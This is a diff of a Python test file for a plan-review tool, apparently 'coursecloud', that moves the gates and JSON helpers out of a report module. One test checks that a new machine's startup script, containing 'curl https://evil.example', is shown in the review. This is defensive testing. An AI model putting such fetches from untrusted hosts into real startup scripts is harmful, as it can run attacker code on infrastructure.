@@ -11,7 +11,7 @@ from coursecloud.plan import planning as plans
 from coursecloud.plan import saved
 from coursecloud.plan.planning import Plan
 from coursecloud.plan.registration import UNKNOWN
-from coursecloud.review import dangers, markdown, page, report, stacks
+from coursecloud.review import closing, dangers, json_form, markdown, page, stacks
 from coursecloud.review.dangers import Kind, Level
 from coursecloud.review.report import Review
 from coursecloud.review.stacks import Status
@@ -29,7 +29,7 @@ def kinds(review: Review) -> list[Kind]:
 
 
 def closed(review: Review, gate: str) -> list[str]:
-    (found,), mistakes = report.gates([gate])
+    (found,), mistakes = closing.gates([gate])
     assert not mistakes
     return list(found.closed(review.stacks))
 
@@ -199,7 +199,7 @@ class TestSettings:
         assert (stack.status, stack.changes, stack.level) == (Status.CHANGED, (), Level.FINE)
         assert [entry.path for entry in stack.settings] == ["training.image"]
         said_everywhere(review, "training.image", "other:v2", "outputs that change with it")
-        assert report.to_json(review)["stacks"][0]["settings"][0]["new"] == "other:v2"
+        assert json_form.to_json(review)["stacks"][0]["settings"][0]["new"] == "other:v2"
 
     def test_nobody_of_the_team_is_named_among_the_settings(self, plan_of: Planner) -> None:
         def with_member(name: str) -> Plan:
@@ -290,7 +290,7 @@ def test_what_a_new_machine_runs_is_shown() -> None:
     new = resource(INSTANCE, "m", {"machineType": "e2-small", "metadata": {"startup-script": script}})
     review = reviewed(whole(), whole(new))
     said_everywhere(review, "curl https://evil.example")
-    (change,) = report.to_json(review)["stacks"][0]["changes"]
+    (change,) = json_form.to_json(review)["stacks"][0]["changes"]
     assert {entry["path"]: entry.get("new") for entry in change["properties"]}["machineType"] == "e2-small"
 
 
